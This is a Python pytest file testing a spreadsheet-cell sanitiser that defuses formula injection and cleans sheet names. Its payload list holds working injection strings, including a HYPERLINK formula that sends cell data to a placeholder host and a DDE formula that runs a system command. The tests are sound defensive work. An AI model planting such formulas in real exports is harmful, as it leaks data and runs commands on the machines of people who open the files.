"""Formula neutralisation of spreadsheet cells (SECURITY.md cases 3 and 4)."""

from __future__ import annotations

import math
from datetime import date

import pytest
from hypothesis import given
from hypothesis import strategies as st

from engage.reports.cells import (
    SHEET_NAME_MAX,
    needs_prefix,
    sheet_name,
    text_cell,
    unescape,
    value_cell,
    xlsx_cell,
)

#: The payload list of SECURITY.md case 3, verbatim.
PAYLOADS = [
    '=HYPERLINK("http://x/?"&A1)',
    "+1+2",
    "-1+1",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "＝1",
    "=cmd|'/c calc'!A0",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_every_payload_is_prefixed_and_round_trips(payload: str) -> None:
    cell = text_cell(payload)
    assert cell == "'" + payload
    assert unescape(cell) == payload


@pytest.mark.parametrize("payload", ["  =1+1", "\u00a0+1", "\u3000@SUM(1)"])
def test_trigger_after_leading_whitespace_is_prefixed(payload: str) -> None:
    assert text_cell(payload) == "'" + payload


@pytest.mark.parametrize(
    "text", ["", "hello", "1-2", "a=b", "Ünïcode 🎉", "שלום", "e\u0301", "3"]
)
def test_harmless_text_is_unchanged(text: str) -> None:
    assert text_cell(text) == text
    assert unescape(text) == text


def test_existing_apostrophe_stays_unambiguous() -> None:
    assert text_cell("'=1") == "''=1"
    assert unescape("''=1") == "'=1"
    assert text_cell("'quoted'") == "'quoted'"
    assert unescape("'quoted'") == "'quoted'"


def test_numbers_stay_numbers() -> None:
    assert value_cell(-3) == -3
    assert value_cell(-3.5) == -3.5
    assert value_cell("-3") == "'-3"  # a string from text stays text, defused
    assert value_cell(math.inf) is None
    assert value_cell(True) == "yes"
    assert value_cell(date(2026, 1, 2)) == "2026-01-02"
    assert value_cell(["=a", "b"]) == "'=a; b"
    assert value_cell(None) is None


def test_xlsx_cell_drops_xml_illegal_characters() -> None:
    assert xlsx_cell("a\x00b\x1fc") == "abc"
    assert xlsx_cell("\x00=1") == "'=1"
    assert xlsx_cell("\r=1") == "'\n=1"
    assert xlsx_cell("a\r\nb") == "a\nb"


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("Feedback", "Feedback"),
        ("=HYPERLINK(1)", "_=HYPERLINK(1)"),
        ("a[b]c:d*e?f/g\\h", "a_b_c_d_e_f_g_h"),
        ("'quoted'", "quoted"),
        ("", "Sheet"),
        ("x" * 40, "x" * 31),
    ],
)
def test_sheet_name(name: str, expected: str) -> None:
    assert sheet_name(name) == expected


def test_sheet_names_are_unique() -> None:
    taken: set[str] = set()
    assert sheet_name("Data", taken) == "Data"
    assert sheet_name("data", taken) == "data (2)"
    assert sheet_name("y" * 40, taken) == "y" * 31
    assert sheet_name("y" * 40, taken) == "y" * 27 + " (2)"


@given(st.text())
def test_property_round_trip_and_inert(text: str) -> None:
    cell = text_cell(text)
    assert unescape(cell) == text
    assert not needs_prefix(cell)


@given(st.text())
def test_property_sheet_name_is_valid(text: str) -> None:
    name = sheet_name(text)
    assert 1 <= len(name) <= SHEET_NAME_MAX
    assert not set(name) & set("[]:*?/\\")
    assert not needs_prefix(name)
    assert not name.startswith("'")
    assert not name.endswith("'")


def test_quick_space_test_matches_the_regex() -> None:
    from engage.reports import cells

    regex = {c for c in map(chr, range(0x10000)) if cells._LEADING_SPACE.fullmatch(c)}
    assert regex == set(cells._SPACE_CHARS)
